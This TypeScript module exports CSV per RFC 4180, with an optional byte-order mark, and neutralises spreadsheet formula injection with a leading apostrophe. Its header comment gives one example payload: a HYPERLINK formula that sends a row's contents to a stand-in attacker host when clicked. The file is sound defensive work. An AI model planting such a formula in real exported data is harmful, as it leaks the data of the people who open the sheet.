// RFC 4180 CSV: CRLF line ends, every field quoted when it holds a comma, quote or line break.
// A UTF-8 byte-order mark is added by default: Excel (the tool most readers open a CSV with) reads
// BOM-less UTF-8 as the local code page and garbles the Arabic names; csv-parse (bom: true),
// Python (utf-8-sig), R and LibreOffice strip it. Callers may omit it (?bom=0 on the API).
//
// Formula injection (OWASP "CSV Injection"): a spreadsheet runs a cell that begins with = + - @,
// tab or carriage return as a formula — `=HYPERLINK("http://evil.example/?"&A1)` would send the
// row away when clicked. Every text cell is free text an editor (or a quoted article) supplied,
// so such a cell gets a leading apostrophe, which spreadsheets read as "this is text" and do not
// show. Plain numbers (-12.5, 2015) are left alone: they cannot be formulas and must stay numbers.

export type CsvValue = string | number | boolean | null | undefined;

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

/** The cell as a spreadsheet may safely open it: formula-looking text prefixed with an apostrophe. */
export function neutraliseFormula(s: string): string {
  return FORMULA_START.test(s) && !PLAIN_NUMBER.test(s) ? `'${s}` : s;
}

function field(v: CsvValue): string {
  if (v === null || v === undefined) return "";
  const s = neutraliseFormula(String(v));
  return /[",\r\n]/.test(s) || s !== s.trim() ? `"${s.replace(/"/g, '""')}"` : s;
}

/** One record and its line end: a streamed download writes the header line, then rows in batches. */
export function csvLine(values: readonly CsvValue[]): string {
  return values.map(field).join(",") + "\r\n";
}

export function toCsv(header: readonly string[], rows: readonly CsvValue[][], { bom = true } = {}): string {
  return (bom ? "\uFEFF" : "") + [header, ...rows].map(csvLine).join("");
}
